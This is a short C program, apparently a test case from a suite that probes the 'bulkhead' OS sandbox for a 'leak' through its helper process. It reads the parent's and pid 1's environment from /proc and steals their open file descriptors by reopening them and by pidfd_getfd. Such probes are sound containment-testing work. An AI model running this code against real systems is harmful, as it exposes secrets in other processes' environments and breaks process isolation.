// Looks at the parent and at pid 1, which hold what bulkhead was started with: descriptors, the
// unfiltered environment, the mount table.
// class: OS sandboxes: the sandbox's own helper process as the way out
// plain: leak
#include "attack.h"

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  const pid_t pids[] = {inside() ? getppid() : (pid_t)number("OUTSIDER"), inside() ? 1 : (pid_t)number("OUTSIDER")};
  for (int i = 0; i < 2; ++i) {
    read_path(text("/proc/%d/environ", pids[i]));
    for (int fd = 0; fd < 64; ++fd) {
      char target[PATH_MAX] = "";
      const char* link = text("/proc/%d/fd/%d", pids[i], fd);
      if (readlink(link, target, sizeof target - 1) <= 0) continue;
      printf("descriptor %d of %d is %s\n", fd, pids[i], target);
      if (fd < 3) continue;
      const int copy = open(link, O_RDWR | O_NONBLOCK);
      if (copy >= 0) {
        effect("took descriptor %d of %d", fd, pids[i]);
        drain(copy);
      }
    }
    const int process = (int)syscall(SYS_pidfd_open, pids[i], 0);
    for (int fd = 0; process >= 0 && fd < 64; ++fd) {
      const int copy = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
      if (copy >= 0) effect("took descriptor %d of %d by pidfd_getfd", fd, pids[i]);
    }
  }
  return 0;
}
